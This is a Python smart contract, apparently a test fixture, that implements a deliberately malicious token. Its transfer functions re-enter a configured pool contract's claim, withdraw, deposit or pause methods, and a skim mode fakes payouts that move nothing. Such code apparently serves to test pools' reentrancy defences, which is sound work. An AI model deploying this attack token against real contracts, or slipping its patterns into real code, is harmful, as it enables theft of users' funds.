# con_malicious_reentrant_token.py
I = importlib

balances = Hash(default_value=0)
metadata = Hash()

re_entry_owner = Variable() # To control sensitive operations

# Attack configuration
re_entry_target = Variable() # Pool contract whose outbound transfers trigger the attack
re_entry_method = Variable() # 'claim', 'emergency_withdraw', 'deposit' or 'pause'
re_entry_amount = Variable()
re_entry_attempt_count = Variable()
re_entry_max_attempts = Variable() # To prevent infinite loops in complex scenarios
skim_transfers = Variable() # When True, transfers out of the target silently move nothing

@construct
def seed():
    initial_supply = 10 ** 30
    balances[ctx.caller] = initial_supply
    metadata['total_supply'] = initial_supply
    re_entry_attempt_count.set(0)
    re_entry_max_attempts.set(1) # Only re-enter once for this test
    skim_transfers.set(False)
    re_entry_owner.set(ctx.caller) # Set owner

@export
def configure_re_entrancy(target: str, method: str, amount: int):
    assert ctx.caller == re_entry_owner.get(), "Only owner can configure re-entrancy."
    re_entry_target.set(target)
    re_entry_method.set(method)
    re_entry_amount.set(amount)
    re_entry_attempt_count.set(0)

@export
def configure_skim(target: str, enabled: bool):
    assert ctx.caller == re_entry_owner.get(), "Only owner can configure skimming."
    re_entry_target.set(target)
    skim_transfers.set(enabled)

@export
def disarm():
    assert ctx.caller == re_entry_owner.get(), "Only owner can disarm."
    re_entry_method.set('')
    skim_transfers.set(False)

def attack(sender: str):
    target = re_entry_target.get()
    method = re_entry_method.get()
    current_attempts = re_entry_attempt_count.get()

    if not target or not method or sender != target:
        return
    if current_attempts >= re_entry_max_attempts.get():
        return

    re_entry_attempt_count.set(current_attempts + 1)
    pool = I.import_module(target)

    if method == 'claim':
        pool.claim()
    elif method == 'emergency_withdraw':
        pool.emergency_withdraw()
    elif method == 'deposit':
        pool.deposit(amount=re_entry_amount.get())
    elif method == 'pause':
        pool.pause()

@export
def transfer(amount: int, to: str):
    assert amount > 0, "Transfer amount must be positive"
    # sender is the calling contract (the pool) when the pool pays out.
    sender = ctx.caller

    if skim_transfers.get() and sender == re_entry_target.get():
        return True

    sender_bal = balances[sender]
    assert sender_bal >= amount, f"Insufficient balance for sender {sender}"

    balances[sender] = sender_bal - amount
    balances[to] += amount

    # --- RE-ENTRANCY LOGIC FOR PAYOUTS ---
    attack(sender)

    return True

@export
def approve(amount: int, to: str):
    assert amount >= 0, "Approve amount must be non-negative"
    balances[ctx.caller, to] = amount
    return True

@export
def transfer_from(amount: int, to: str, main_account: str):
    assert amount > 0, "Transfer amount must be positive"
    spender = ctx.caller # This is the pool in the scenario

    owner_balance = balances[main_account]
    assert owner_balance >= amount, f"Insufficient balance for owner {main_account}"

    spender_allowance = balances[main_account, spender]
    assert spender_allowance >= amount, f"Insufficient allowance for spender {spender} from owner {main_account}"

    balances[main_account] = owner_balance - amount
    balances[main_account, spender] = spender_allowance - amount
    balances[to] += amount

    # --- RE-ENTRANCY LOGIC FOR DEPOSITS ---
    attack(spender)

    return True

@export
def balance_of(address: str):
    return balances[address]
